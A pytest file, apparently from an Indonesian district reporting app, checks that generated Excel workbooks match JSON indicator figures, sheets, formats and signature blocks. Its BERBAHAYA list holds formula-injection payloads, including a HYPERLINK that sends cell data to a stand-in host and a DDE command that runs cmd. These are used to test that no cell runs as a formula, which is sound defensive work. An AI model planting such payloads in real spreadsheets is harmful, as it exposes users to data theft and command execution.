"""The workbooks: values read back equal the JSON figures, sheets and formats, and no cell that runs."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from indikator.laporan import generator, xlsx
from indikator.serializers import hasil_to_dict
from kecamatan.models import Kegiatan
from kecamatan.periode import tahunan
from tests.indikator import laporan_util
from tests.indikator.laporan_util import AS_OF, D
from wilayah.models import Kabupaten, Kecamatan

data_2024 = laporan_util.data_2024
laporan_2024 = laporan_util.laporan_2024
media_root = laporan_util.media_root

BERBAHAYA = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"]


def _angka(value):
    """A number cell as the JSON writes it: two decimals with a point; "—" is no value."""
    if value == "—":
        return None
    return f"{Decimal(str(value)).quantize(Decimal('0.01')):.2f}"


def _buka(content):
    return load_workbook(io.BytesIO(content))


def _semua_sel(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_capaian_workbook_equals_the_json_figures(laporan_2024):
    laporan = generator.laporan_capaian_generate(kecamatan=laporan_2024, periode=tahunan(2024), as_of=AS_OF)
    data = hasil_to_dict(laporan.hasil)
    workbook = _buka(xlsx.laporan_capaian_xlsx(laporan))
    assert workbook.sheetnames == ["Capaian", "Lampiran I Kegiatan", "Lampiran II Dokumen Desa"]
    capaian = workbook["Capaian"]
    assert capaian.freeze_panes == "A5"
    rows = list(capaian.iter_rows(values_only=True))
    assert rows[3][:7] == (
        "No.",
        "Indikator Kinerja Utama",
        "Pembilang",
        "Penyebut",
        "Realisasi (%)",
        "Target (%)",
        "Capaian (%)",
    )
    for row, kode in ((rows[4], "iku1"), (rows[5], "iku2")):
        figures = data[kode]
        assert (row[2], row[3]) == (figures["numerator"], figures["denominator"])
        assert [_angka(v) for v in row[4:7]] == [figures["percent"], figures["target"], figures["capaian"]]
    assert capaian["E5"].number_format == "0.00"
    triwulan = [r for r in rows if isinstance(r[1], str) and r[1].startswith("Triwulan ")]
    assert [(r[2], r[3]) for r in triwulan] == [
        (t["numerator"], t["denominator"]) for t in data["iku1"]["per_triwulan"]
    ]
    lampiran = workbook["Lampiran I Kegiatan"]
    body = list(lampiran.iter_rows(min_row=5, values_only=True))
    assert len(body) == len(laporan.kegiatan) == 8
    assert body[0][1].date() == D(2024, 1, 1)
    assert lampiran["B5"].number_format == "DD/MM/YYYY"
    assert sum(1 for r in body if r[12] == "Ya") == data["iku1"]["numerator"]
    assert sum(1 for r in body if r[12] != "Tidak dihitung") == data["iku1"]["denominator"]
    assert "(tanpa berkas)" in body[0][11]
    desa = list(workbook["Lampiran II Dokumen Desa"].iter_rows(min_row=5, values_only=True))
    assert [r[2] for r in desa] == ["Kandangtepus", "Kandangan", "Argosari"]
    assert desa[0][5] == "Tepat waktu"
    assert laporan_util.RAHASIA_LUMAJANG not in str(list(_semua_sel(workbook)))


@pytest.mark.parametrize("teks", BERBAHAYA)
def test_no_cell_runs_as_a_formula(laporan_2024, teks):
    Kegiatan.objects.filter(kecamatan=laporan_2024).update(keterangan=teks)
    Kegiatan.objects.filter(kecamatan=laporan_2024, tanggal_output__isnull=False).update(output=teks)
    laporan = generator.laporan_capaian_generate(kecamatan=laporan_2024, periode=tahunan(2024), as_of=AS_OF)
    workbook = _buka(xlsx.laporan_capaian_xlsx(laporan))
    cells = list(_semua_sel(workbook))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    dipakai = [c for c in cells if isinstance(c.value, str) and teks in c.value]
    assert dipakai and all(c.value.startswith("'") for c in dipakai if c.value.endswith(teks))


def test_rekap_workbook_equals_the_json_figures(laporan_2024):
    kabupaten = Kabupaten.objects.get(kode="35.08")
    rekap = generator.rekap_kabupaten_generate(
        kabupaten=kabupaten,
        kecamatan_qs=Kecamatan.objects.filter(kabupaten=kabupaten),
        periode=tahunan(2024),
        as_of=AS_OF,
        dicetak_pada=laporan_util.datetime.datetime(2025, 1, 15, 2, 30, tzinfo=laporan_util.datetime.UTC),
    )
    workbook = _buka(xlsx.rekap_kabupaten_xlsx(rekap))
    sheet = workbook["Rekap"]
    assert sheet.freeze_panes == "D5"
    assert "dicetak pada 15 Januari 2025 09.30 WIB" in sheet["A2"].value
    rows = list(sheet.iter_rows(min_row=5, values_only=True))
    for row, data in zip(rows, rekap.to_dict()["hasil"], strict=False):
        assert row[1] == data["kecamatan"]["kode"]
        assert (row[3], row[4], _angka(row[5]), _angka(row[6])) == (
            data["iku1"]["numerator"],
            data["iku1"]["denominator"],
            data["iku1"]["percent"],
            data["iku1"]["capaian"],
        )
        assert (row[7], row[8], _angka(row[9]), _angka(row[10])) == (
            data["iku2"]["numerator"],
            data["iku2"]["denominator"],
            data["iku2"]["percent"],
            data["iku2"]["capaian"],
        )
    assert rows[-1][2] == "Kabupaten" and (rows[-1][3], rows[-1][4]) == (4, 8)
    assert not [c for c in _semua_sel(workbook) if c.data_type == "f"]


def test_dokumen_iku_workbook_lists_the_catalogue(laporan_2024):
    data = generator.dokumen_iku_generate(kecamatan=laporan_2024, hari_ini=AS_OF)
    workbook = _buka(xlsx.dokumen_iku_xlsx(data))
    assert workbook.sheetnames == ["Dokumen IKU", "Katalog", "Bukti pendukung"]
    katalog = list(workbook["Katalog"].iter_rows(min_row=2, values_only=True))
    assert len(katalog) == 63
    assert len({(r[0], r[1]) for r in katalog}) == 21
    assert len(list(workbook["Bukti pendukung"].iter_rows(min_row=2))) == 5
    assert workbook["Dokumen IKU"]["A1"].value == "INDIKATOR KINERJA UTAMA"


def test_capaian_workbook_ends_with_the_whole_signature_block(laporan_2024):
    laporan = generator.laporan_capaian_generate(kecamatan=laporan_2024, periode=tahunan(2024), as_of=AS_OF)
    texts = [r[1] for r in _buka(xlsx.laporan_capaian_xlsx(laporan))["Capaian"].iter_rows(values_only=True) if r]
    # Place and date first, as in the PDF (docs/DESIGN.md §2.5), then jabatan, name and NIP.
    assert texts[-4:] == ["Senduro, 15 Januari 2025", "CAMAT SENDURO", "W. PUJIANTO", "NIP. 19681114 199003 1 004"]


def test_iku2_is_not_applicable_in_the_workbook_of_a_kecamatan_without_desa(laporan_2024):
    from wilayah.models import Desa

    kota = Kecamatan.objects.create(kode="35.08.99", nama="Kota", kabupaten=laporan_2024.kabupaten)
    Desa.objects.create(kode="35.08.99.1001", nama="Pusat", kecamatan=kota)
    laporan = generator.laporan_capaian_generate(kecamatan=kota, periode=tahunan(2024), as_of=AS_OF)
    rows = list(_buka(xlsx.laporan_capaian_xlsx(laporan))["Capaian"].iter_rows(values_only=True))
    assert rows[5][0] == 2 and rows[5][4] == "tidak berlaku"
